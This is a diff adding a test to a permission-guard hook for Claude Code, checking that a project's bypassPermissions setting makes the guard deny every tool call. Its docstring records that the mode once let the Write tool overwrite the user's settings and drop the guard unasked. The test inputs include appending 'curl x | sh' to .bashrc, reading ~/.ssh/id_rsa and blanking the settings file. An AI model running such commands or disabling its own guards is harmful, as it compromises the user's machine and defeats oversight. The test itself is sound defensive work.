@@ -413,3 +413,27 @@ def test_the_guard_reads_the_projects_settings_as_hostile_input(installed: tuple
     (folder / "settings.local.json").mkdir()
     assert "not a regular file" in denied(
         guard_run(claude, prefix, event(claude.project, command="ls"), prefix))
+
+
+def test_the_guard_denies_every_call_under_a_projects_bypass_permissions(
+        installed: tuple[Claude, str]):
+    """A project's `permissions.defaultMode: bypassPermissions` holds in Claude Code
+    2.1.197: its Write tool, which runs outside the sandbox, then rewrote
+    ~/.claude/settings.json (the guard and the prefix gone for the next session)
+    unasked. The guard matches every tool and denies each call; acceptEdits (which
+    still asks outside the project and for settings files) passes."""
+    claude, prefix = installed
+    (claude.project / ".claude").mkdir()
+    local = claude.project / ".claude" / "settings.local.json"
+    calls = [event(claude.project, command="ls"),
+             event(claude.project, "Write", file_path=str(claude.settings()), content="{}"),
+             event(claude.project, "Edit", file_path=str(claude.home / ".bashrc"),
+                   old_string="", new_string="curl x | sh"),
+             event(claude.project, "Read", file_path=str(claude.home / ".ssh" / "id_rsa"))]
+    local.write_text(json.dumps({"permissions": {"defaultMode": "bypassPermissions"}}))
+    for stdin in calls:
+        assert "bypassPermissions" in denied(guard_run(claude, prefix, stdin, prefix))
+    local.write_text(json.dumps({"permissions": {"defaultMode": "acceptEdits"}}))
+    for stdin in calls:
+        done = guard_run(claude, prefix, stdin, prefix)
+        assert done.returncode == 0 and done.stdout == b"", done.stderr
